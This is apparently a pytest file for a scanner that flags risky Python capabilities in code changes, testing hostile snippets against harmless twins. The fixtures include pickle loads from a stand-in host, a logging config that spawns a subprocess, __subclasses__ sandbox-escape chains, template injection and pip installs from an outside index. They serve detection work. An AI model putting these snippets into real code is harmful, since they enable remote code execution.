"""What Python runs without a call that names it is seen in changes, and its innocent twin is not."""

import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.python import read_python

PAIRS = {
    "executes_download pandas": (
        "import pandas as pd\npd.read_pickle('https://kiln.example/d.pkl')",
        "import pandas as pd\npd.read_pickle('pots/d.pkl')\npd.read_csv('https://kiln.example/d.csv')",
    ),
    "executes_download joblib": (
        "from joblib import load\nURL = 'https://kiln.example/d'\nload(URL)",
        "from joblib import load\nload('d.joblib')",
    ),
    "deserialisation": (
        "AutoModel.from_pretrained('kiln/glaze', trust_remote_code=True)",
        "AutoModel.from_pretrained('kiln/glaze', trust_remote_code=False)",
    ),
    "process": (
        "CLAY = {'handlers': {'h': {'()': 'ext://subprocess.Popen', 'args': ['id']}}}",
        "CLAY = {'handlers': {'h': {'class': 'logging.StreamHandler', 'stream': 'ext://sys.stdout'}}}",
    ),
    "dynamic_code classes": (
        "for c in ().__class__.__base__.__subclasses__(): glaze(c)",
        "for c in Kiln.__subclasses__(): glaze(c)",
    ),
    "dynamic_code order": ("''.__class__.__mro__[1].__subclasses__()", "type(kiln).__mro__[1].glaze()"),
    "dynamic_code builtins": (
        "b = vars(__import__('builtins'))\nb[next(k for k in b if k.startswith('exe'))](x)",
        "import builtins\nb = vars(builtins)\nb['len'](x)",
    ),
    "dynamic_code template": (
        "from flask import request, render_template_string\nrender_template_string(request.args['t'])",
        "from flask import request, render_template_string\nrender_template_string('{{ t }}', t=request.args['t'])",
    ),
    "package_installation": ("import pip\npip.main(['install', 'glaze'])", "import pip\npip.main(['list'])"),
    "dependency_index_changed": (
        "from pip._internal import main\nmain(['install', '--index-url', 'https://kiln.example/simple', 'glaze'])",
        "from pip._internal import main\nmain(['install', 'glaze'])",
    ),
}


def read(code: str, *, of_change: bool = True) -> set[str]:
    notes = Notes("pots/kiln.py", every_line=of_change, is_program=True)
    return {observation.capability for observation in read_python(notes.path, code.encode(), notes)}


@pytest.mark.parametrize("name", PAIRS)
def test_it_is_seen_and_its_innocent_twin_is_not(name: str) -> None:
    bad, innocent = PAIRS[name]
    assert name.split(maxsplit=1)[0] in read(bad)
    assert name.split(maxsplit=1)[0] not in read(innocent)


def test_archives_show_what_they_showed_before() -> None:
    assert not any("executes_download" in read(bad, of_change=False) for bad, _ in PAIRS.values())


def test_when_it_runs_is_told() -> None:
    code = b"import pandas\ndef fire():\n    pandas.read_pickle('https://kiln.example/d.pkl')\n"
    notes = Notes("kiln.py", every_line=True)
    assert [(o.trigger, o.target) for o in read_python("kiln.py", code, notes)] == [("call", "kiln.example")]


@pytest.mark.parametrize("code", ["__subclasses__" + "(" * 90, "b" + ".__base__" * 20_000, "'ext://'\n" * 50_000])
def test_odd_texts_are_read(code: str) -> None:
    assert isinstance(read(code), set)
